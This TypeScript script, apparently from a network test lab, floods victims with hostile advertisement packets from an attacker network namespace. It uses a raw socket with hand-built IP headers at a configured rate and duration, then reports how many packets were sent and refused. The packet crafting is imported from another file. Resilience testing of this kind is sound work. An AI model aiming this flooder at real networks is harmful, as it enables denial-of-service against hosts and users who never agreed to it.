// Sends hostile advertisements at a given rate for a given time: `flood.ts '{"victim":…,"interface":"eth0","rate":50000,"seconds":10}'`.
// Prints one JSON line: how many went out, and in how long. Runs inside the attacker's namespace.
import {
  AF,
  bindToDevice,
  createSendQueue,
  interfaceIndex,
  internetAddress,
  openSocket,
  SOCK,
  setMulticastInterface,
  setOption,
} from '@havip/linux'
import { hostilePackets, type Victim } from './flood-kinds.ts'

export type FloodOrder = {
  readonly victims: readonly Victim[]
  readonly interface: string
  readonly rate: number
  readonly seconds: number
}
export type FloodResult = { readonly sent: number; readonly refused: number; readonly seconds: number; readonly kinds: number }

const order = JSON.parse(process.argv[2] ?? '{}') as FloodOrder
const fd = openSocket(AF.INET, SOCK.RAW, 255)
setOption(fd, 'IP_HDRINCL', 1)
bindToDevice(fd, order.interface)
setMulticastInterface(fd, 'ipv4', interfaceIndex(order.interface))
const packets = order.victims.flatMap((victim) =>
  hostilePackets(victim).map(({ kind, datagram }) => ({ kind, datagram, to: internetAddress(victim.destination) })),
)
/** After a pause the sender may catch up so much at once; else half of a rate would be lost to the machine's other work. */
const burstMax = 2000
const flushEvery = 256
const queue = createSendQueue(flushEvery, 1600)
let sent = 0
let refused = 0
let next = 0
const began = performance.now()
const endsAt = began + order.seconds * 1000

function burst(count: number): void {
  for (let left = count; left > 0; left -= flushEvery) {
    for (let i = 0; i < Math.min(left, flushEvery); i++) {
      const packet = packets[next++ % packets.length]
      if (packet) queue.push(packet.datagram, packet.to)
    }
    sent += queue.flush(fd, 0, () => {
      refused++
    })
  }
}

function pace(): void {
  const now = performance.now()
  if (now >= endsAt) {
    const result: FloodResult = { sent, refused, seconds: (now - began) / 1000, kinds: packets.length }
    process.stdout.write(`${JSON.stringify(result)}\n`)
    return
  }
  // What is owed by now; after a pause not all of it at once.
  const owed = Math.floor(((now - began) / 1000) * order.rate) - sent - refused
  if (owed > 0) burst(Math.min(owed, burstMax))
  setImmediate(pace)
}
pace()
